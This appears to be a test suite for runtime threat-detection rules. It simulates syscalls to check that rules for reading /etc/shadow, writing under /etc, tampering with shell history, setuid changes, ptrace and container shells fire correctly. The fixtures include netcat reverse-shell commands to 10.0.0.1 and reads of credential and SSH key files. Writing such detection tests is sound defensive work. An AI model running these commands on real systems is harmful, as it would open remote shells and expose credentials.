/** Each delivered rule fires on what it is for, and keeps quiet on what looks like it. */
import assert from 'node:assert/strict';
import { FdType } from '../../../daemon/state/fd.js';
import type { ThreadInfo } from '../../../daemon/state/thread.js';
import { CONTAINER, loadDelivered, RuleHost } from '../../support/rule-host.js';

const WRITE = 'O_WRONLY|O_CREAT|O_TRUNC';
const delivered = loadDelivered();

describe('the delivered rules', () => {
  let host: RuleHost;
  let shell: ThreadInfo;
  let inContainer: ThreadInfo;

  beforeEach(() => {
    host = new RuleHost(delivered.rules);
    shell = host.process({
      name: 'bash',
      parent: host.process({ name: 'sshd', exe: '/usr/sbin/sshd' }),
      tty: 34816,
    });
    inContainer = host.process({ name: 'sh', exe: '/bin/busybox', container: CONTAINER });
  });

  const run = (name: string, spec: Partial<Parameters<RuleHost['process']>[0]> = {}): ThreadInfo =>
    host.process({ name, parent: shell, ...spec });

  it('load without an error or a warning', () => {
    for (const result of delivered.results) {
      assert.deepEqual([result.errors, result.warnings, result.notes], [[], [], []], result.name);
    }
    assert.ok(delivered.rules.length >= 11);
  });

  it('each have a description and the tags of their techniques', () => {
    for (const rule of delivered.rules) {
      assert.ok(rule.desc.length > 40, rule.name);
      assert.ok(
        rule.tags.some(tag => tag.startsWith('mitre_')),
        rule.name,
      );
      assert.ok(
        rule.tags.some(tag => /^T\d{4}(\.\d{3})?$/.test(tag)),
        rule.name,
      );
    }
  });

  describe('Read sensitive file untrusted', () => {
    const RULE = ['Read sensitive file untrusted'];

    it('fires once when cat reads /etc/shadow', () => {
      const alerts = host.alertsOf(run('cat', { args: ['/etc/shadow'] }), 'openat', {
        fd: 3,
        dirfd: -100,
        name: '/etc/shadow',
        flags: host.flags('file_flags', 'O_RDONLY'),
      });
      assert.deepEqual(
        alerts.map(({ rule, priority }) => [rule, priority]),
        [[RULE[0], 4]],
      );
      assert.match(alerts[0]!.message, /file=\/etc\/shadow user=root .*command=cat \/etc\/shadow /);
    });
    it('fires for other files of the kind, and in containers', () => {
      assert.deepEqual(host.open(run('cat'), '/etc/sudoers.d/admins'), RULE);
      assert.deepEqual(host.open(run('cp'), '/etc/ssh/ssh_host_ed25519_key'), RULE);
      assert.deepEqual(host.open(run('cat', { parent: inContainer }), '/etc/gshadow'), RULE);
    });
    it('fires for a copy of a trusted program in another place', () => {
      assert.deepEqual(host.open(run('su', { exe: '/tmp/su' }), '/etc/shadow'), RULE);
    });
    it('takes failed and write-only opens for nothing', () => {
      assert.deepEqual(host.open(run('cat'), '/etc/shadow', 'O_RDONLY', -13), []);
      assert.deepEqual(host.open(run('cat'), '/etc/passwd'), []);
    });
    it('lets programs do their work', () => {
      for (const name of ['login', 'su', 'sudo', 'cron', 'unix_chkpwd', 'passwd']) {
        assert.deepEqual(host.open(run(name), '/etc/shadow'), [], name);
      }
      const sshd = run('sshd', { exe: '/usr/sbin/sshd', parent: host.init });
      assert.deepEqual(host.open(sshd, '/etc/ssh/ssh_host_rsa_key'), []);
      assert.deepEqual(host.open(run('(sd-pam)', { exe: '/usr/lib/systemd/systemd' }), '/etc/shadow'), []);
      const dpkg = run('dpkg', { exe: '/usr/bin/dpkg' });
      assert.deepEqual(host.open(run('md5sum', { parent: run('sh', { parent: dpkg }) }), '/etc/shadow'), []);
      const daily = run('passwd', {
        exe: '/usr/bin/dash',
        args: ['/etc/cron.daily/passwd'],
        parent: host.init,
      });
      assert.deepEqual(host.open(run('cmp', { parent: daily }), '/etc/shadow'), []);
    });
    it('takes an exception from a local file', () => {
      const local = loadDelivered(`
- rule: Read sensitive file untrusted
  exceptions:
    - name: program_and_file
      values:
        - [nightly-backup, /etc/shadow]
  override:
    exceptions: append
`);
      assert.ok(local.results.every(({ successful, warnings }) => successful && warnings.length === 0));
      host = new RuleHost(local.rules);
      shell = host.process({ name: 'bash' });
      assert.deepEqual(host.open(run('nightly-backup'), '/etc/shadow'), []);
      assert.deepEqual(host.open(run('nightly-backup'), '/etc/sudoers'), RULE);
    });
  });

  describe('Write below etc', () => {
    const RULE = ['Write below etc'];

    it('says who edited /etc/passwd in a container', () => {
      const sed = run('sed', { exe: '/bin/busybox', args: ['-i', '$d', '/etc/passwd'], parent: inContainer });
      const [alert, ...more] = host.alertsOf(sed, 'openat', {
        fd: 4,
        dirfd: -100,
        name: '/etc/sedXa81Qw',
        flags: host.flags('file_flags', 'O_RDWR|O_CREAT|O_EXCL|O_F_CREATED'),
      });
      assert.deepEqual([alert?.rule, alert?.priority, more], ['Write below etc', 3, []]);
      const beginning =
        'File below /etc opened for writing (user=root user_loginuid=-1 command=sed -i $d /etc/passwd parent=sh ';
      assert.ok(alert?.message.startsWith(beginning), alert?.message);
      for (const part of ['file=/etc/sedXa81Qw', 'program=sed', 'gparent=', 'image=<NA>']) {
        assert.ok(alert.message.includes(` ${part}`), alert.message);
      }
      assert.ok(alert.message.includes(`container_id=${CONTAINER.slice(0, 12)} `), alert.message);
    });
    it('fires for editors, redirections and creat', () => {
      assert.deepEqual(host.open(run('vim'), '/etc/crontab', WRITE), RULE);
      assert.deepEqual(host.open(shell, '/etc/profile.d/x.sh', 'O_WRONLY|O_APPEND'), RULE);
      assert.deepEqual(host.call(run('cp'), 'creat', { fd: 3, name: '/etc/hosts' }), RULE);
      const cwd = run('tee', { cwd: '/etc/' });
      assert.deepEqual(host.open(cwd, 'ld.so.preload', WRITE), RULE);
    });
    it('takes reading, failing and other directories for nothing', () => {
      assert.deepEqual(host.open(run('vim'), '/etc/crontab'), []);
      assert.deepEqual(host.open(run('vim'), '/etc/crontab', WRITE, -13), []);
      assert.deepEqual(host.open(run('vim'), '/etcetera/x', WRITE), []);
      assert.deepEqual(host.open(run('vim'), '/srv/etc/x', WRITE), []);
    });
    it('lets account programs keep their files, and no others', () => {
      assert.deepEqual(host.open(run('useradd', { exe: '/usr/sbin/useradd' }), '/etc/passwd+', WRITE), []);
      assert.deepEqual(host.open(run('passwd'), '/etc/.pwd.lock', WRITE), []);
      assert.deepEqual(host.open(run('useradd', { exe: '/usr/sbin/useradd' }), '/etc/crontab', WRITE), RULE);
      assert.deepEqual(host.open(run('useradd', { exe: '/tmp/useradd' }), '/etc/passwd', WRITE), RULE);
    });
    it('lets packages and the system configure themselves', () => {
      const dpkg = run('dpkg', { parent: run('apt-get') });
      assert.deepEqual(host.open(dpkg, '/etc/default/x.dpkg-new', WRITE), []);
      const postinst = run('x.postinst', { exe: '/usr/bin/dash', parent: dpkg });
      assert.deepEqual(host.open(run('sed', { parent: postinst }), '/etc/x.conf', WRITE), []);
      assert.deepEqual(
        host.open(run('ldconfig', { exe: '/usr/sbin/ldconfig' }), '/etc/ld.so.cache~', WRITE),
        [],
      );
      assert.deepEqual(host.open(host.init, '/etc/machine-id', WRITE), []);
      assert.deepEqual(host.open(run('runc:[2:INIT]', { exe: '/usr/sbin/runc' }), '/etc/hosts', WRITE), []);
    });
  });

  describe('links over sensitive files', () => {
    it('fire for symbolic links to the file or its directory', () => {
      const rule = ['Create Symlink Over Sensitive Files'];
      const ln = run('ln');
      assert.deepEqual(host.call(ln, 'symlink', { target: '/etc/shadow', linkpath: '/tmp/a' }), rule);
      assert.deepEqual(
        host.call(ln, 'symlinkat', { target: '/root/.ssh/authorized_keys', linkdirfd: -100, linkpath: 'b' }),
        rule,
      );
      assert.deepEqual(
        host.call(ln, 'symlink', { target: '../../etc/passwd', linkpath: '/srv/www/c' }),
        rule,
      );
    });
    it('take failures and harmless targets for nothing', () => {
      const ln = run('ln');
      assert.deepEqual(host.call(ln, 'symlink', { res: -17, target: '/etc/shadow', linkpath: '/tmp/a' }), []);
      assert.deepEqual(
        host.call(ln, 'symlink', { target: '/etc/alternatives/vi', linkpath: '/usr/bin/vi' }),
        [],
      );
      assert.deepEqual(host.call(ln, 'symlink', { target: '/etc/passwd.d', linkpath: '/tmp/d' }), []);
      const dpkg = run('dpkg');
      assert.deepEqual(host.call(dpkg, 'symlink', { target: '/etc/pam.d/x', linkpath: '/etc/pam.d/y' }), []);
    });
    it('fire for hard links, but not for the locks of account programs', () => {
      const rule = ['Create Hardlink Over Sensitive Files'];
      const spec = { olddir: -100, oldpath: '/etc/shadow', newdir: -100, newpath: '/tmp/shadow' };
      assert.deepEqual(host.call(run('ln'), 'linkat', spec), rule);
      assert.deepEqual(host.call(run('ln'), 'link', { oldpath: '/etc/shadow', newpath: '/tmp/x' }), rule);
      assert.deepEqual(
        host.call(run('ln'), 'linkat', { ...spec, oldpath: '/tmp/shadow', newpath: '/tmp/e' }),
        [],
      );
      const useradd = run('useradd', { exe: '/usr/sbin/useradd' });
      assert.deepEqual(
        host.call(useradd, 'link', { oldpath: '/etc/passwd', newpath: '/etc/passwd.lock' }),
        [],
      );
    });
  });

  describe('Delete or rename shell history', () => {
    const RULE = ['Delete or rename shell history'];
    const HISTORY = '/root/.bash_history';

    it('fires when history is removed, moved, replaced or emptied', () => {
      assert.deepEqual(host.call(run('rm'), 'unlinkat', { dirfd: -100, name: HISTORY }), RULE);
      assert.deepEqual(host.call(run('rm', { cwd: '/home/ann/' }), 'unlink', { path: '.zsh_history' }), RULE);
      assert.deepEqual(host.call(run('mv'), 'rename', { oldpath: HISTORY, newpath: '/tmp/x' }), RULE);
      assert.deepEqual(host.call(run('sed'), 'rename', { oldpath: '/root/sedab', newpath: HISTORY }), RULE);
      assert.deepEqual(host.open(shell, HISTORY, WRITE), RULE);
    });
    it('lets shells write their history, and accounts and images go', () => {
      assert.deepEqual(host.open(shell, HISTORY, 'O_WRONLY|O_APPEND'), []);
      assert.deepEqual(host.open(shell, HISTORY, `${WRITE}|O_F_CREATED`), []);
      assert.deepEqual(host.call(shell, 'rename', { oldpath: `${HISTORY}-0123.tmp`, newpath: HISTORY }), []);
      assert.deepEqual(host.call(run('rm'), 'unlink', { res: -2, path: HISTORY }), []);
      assert.deepEqual(
        host.call(run('userdel', { exe: '/usr/sbin/userdel' }), 'unlink', { path: HISTORY }),
        [],
      );
      assert.deepEqual(host.call(run('containerd'), 'unlink', { path: `/var/lib/x/rootfs${HISTORY}` }), []);
      assert.deepEqual(host.call(run('rm'), 'unlink', { path: '/root/notes_history' }), []);
    });
  });

  describe('Set Setuid or Setgid bit', () => {
    const RULE = ['Set Setuid or Setgid bit'];

    it('fires for files that get either bit, by path or by descriptor', () => {
      assert.deepEqual(host.chmod(run('chmod'), '/tmp/sh', 'S_ISUID|S_IRUSR|S_IXUSR'), RULE);
      assert.deepEqual(host.chmod(run('chmod'), '/tmp/sh', 'S_ISGID|S_IXUSR|S_IXGRP'), RULE);
      const cp = run('cp');
      host.give(cp, 5, '/tmp/sh');
      assert.deepEqual(host.call(cp, 'fchmod', { fd: 5, mode: host.flags('chmod_mode', 'S_ISUID') }), RULE);
    });
    it('takes other modes, directories and packages for nothing', () => {
      assert.deepEqual(host.chmod(run('chmod'), '/tmp/sh', 'S_IXUSR|S_IXGRP|S_ISVTX'), []);
      const mkdir = run('mkdir');
      host.give(mkdir, 5, '/srv/shared', FdType.directory);
      const mode = host.flags('chmod_mode', 'S_ISGID|S_IXGRP');
      assert.deepEqual(host.call(mkdir, 'fchmod', { fd: 5, mode }), []);
      assert.deepEqual(host.chmod(run('dpkg'), '/usr/bin/su.dpkg-new', 'S_ISUID|S_IXUSR'), []);
      assert.deepEqual(host.chmod(run('systemd-tmpfiles'), '/var/log/journal', 'S_ISGID|S_IXGRP'), []);
    });
  });

  describe('Change thread namespace', () => {
    const RULE = ['Change thread namespace'];

    it('fires for nsenter and unshare, in containers too', () => {
      assert.deepEqual(host.call(run('nsenter'), 'setns', { fd: 3 }), RULE);
      const flags = host.flags('clone_flags', 'CLONE_NEWUSER');
      assert.deepEqual(host.call(run('unshare', { parent: inContainer }), 'unshare', { flags }), RULE);
    });
    it('takes failures, unshared tables, runtimes and services for nothing', () => {
      assert.deepEqual(host.call(run('nsenter'), 'setns', { res: -1, fd: 3 }), []);
      assert.deepEqual(
        host.call(run('x'), 'unshare', { flags: host.flags('clone_flags', 'CLONE_FILES') }),
        [],
      );
      const flags = host.flags('clone_flags', 'CLONE_NEWNS');
      assert.deepEqual(host.call(run('runc:[1:CHILD]', { exe: '/usr/sbin/runc' }), 'unshare', { flags }), []);
      const service = run('(ogrotate)', { exe: '/usr/lib/systemd/systemd', parent: host.init });
      assert.deepEqual(host.call(service, 'unshare', { flags }), []);
      assert.deepEqual(
        host.call(run('systemd-udevd', { exe: '/usr/bin/udevadm' }), 'unshare', { flags }),
        [],
      );
    });
  });

  describe('PTRACE attached to process', () => {
    const RULE = ['PTRACE attached to process'];
    const request = (name: string): number => host.flags('ptrace_requests', name);

    it('fires for attaching, and for writing into another by what is no debugger', () => {
      assert.deepEqual(host.call(run('gdb'), 'ptrace', { request: request('PTRACE_ATTACH'), pid: 1 }), RULE);
      assert.deepEqual(host.call(run('x'), 'ptrace', { request: request('PTRACE_SEIZE'), pid: 1 }), RULE);
      assert.deepEqual(host.call(run('x'), 'ptrace', { request: request('PTRACE_POKETEXT'), pid: 1 }), RULE);
    });
    it('takes tracing oneself, failures and breakpoints for nothing', () => {
      assert.deepEqual(host.call(run('strace'), 'ptrace', { request: request('PTRACE_TRACEME') }), []);
      const failed = { res: -1, request: request('PTRACE_ATTACH'), pid: 1 };
      assert.deepEqual(host.call(run('gdb'), 'ptrace', failed), []);
      assert.deepEqual(host.call(run('gdb'), 'ptrace', { request: request('PTRACE_POKETEXT'), pid: 1 }), []);
    });
  });

  describe('what runs in containers', () => {
    it('fires once for a package manager, not for its helpers and not on the host', () => {
      const rule = ['Launch Package Management Process in Container'];
      assert.deepEqual(
        host.exec(inContainer, { name: 'apk', exe: '/sbin/apk', args: ['add', 'curl'] }),
        rule,
      );
      assert.deepEqual(host.exec(inContainer, { name: 'apt-get', args: ['install', 'nmap'] }), rule);
      const apt = run('apt-get', { parent: inContainer });
      assert.deepEqual(host.exec(apt, { name: 'dpkg' }), []);
      assert.deepEqual(host.exec(shell, { name: 'apt-get' }), []);
    });
    it('fires for a shell with a terminal', () => {
      const rule = ['Terminal shell in container'];
      assert.deepEqual(host.exec(inContainer, { name: 'bash', tty: 34817 }), rule);
      assert.deepEqual(host.exec(inContainer, { name: 'bash' }), []);
      assert.deepEqual(host.exec(inContainer, { name: 'ls', tty: 34817 }), []);
      assert.deepEqual(host.exec(shell, { name: 'bash', tty: 34816 }), []);
    });
    it('fires for netcat that runs a program, under its name for each place', () => {
      const rule = ['Netcat Remote Code Execution in Container'];
      assert.deepEqual(
        host.exec(inContainer, { name: 'nc', args: ['10.0.0.1', '4444', '-e', '/bin/sh'] }),
        rule,
      );
      assert.deepEqual(host.exec(inContainer, { name: 'nc', args: ['-lvnpe', '/bin/sh'] }), rule);
      assert.deepEqual(
        host.exec(inContainer, { name: 'ncat', args: ['--sh-exec', 'id', '10.0.0.1', '1'] }),
        rule,
      );
      assert.deepEqual(
        host.exec(inContainer, { name: 'busybox', args: ['nc', '10.0.0.1', '1', '-e', 'sh'] }),
        rule,
      );
      const applet = host.process({ name: 'sh', exe: '/bin/busybox', container: CONTAINER });
      assert.deepEqual(
        host.exec(applet, {
          name: 'exe',
          exe: '/bin/busybox',
          argv0: 'nc',
          args: ['-e', 'sh', '10.0.0.1', '1'],
        }),
        rule,
      );
      assert.deepEqual(host.exec(shell, { name: 'nc', args: ['-c', 'sh', '10.0.0.1', '1'] }), [
        'Netcat Remote Code Execution on Host',
      ]);
    });
    it('takes plain netcat for nothing', () => {
      assert.deepEqual(host.exec(inContainer, { name: 'nc', args: ['-lvp', '4444'] }), []);
      assert.deepEqual(host.exec(inContainer, { name: 'nc', args: ['example-e.com', '80'] }), []);
      assert.deepEqual(host.exec(shell, { name: 'nc', args: ['-z', 'localhost', '22'] }), []);
    });
  });
});
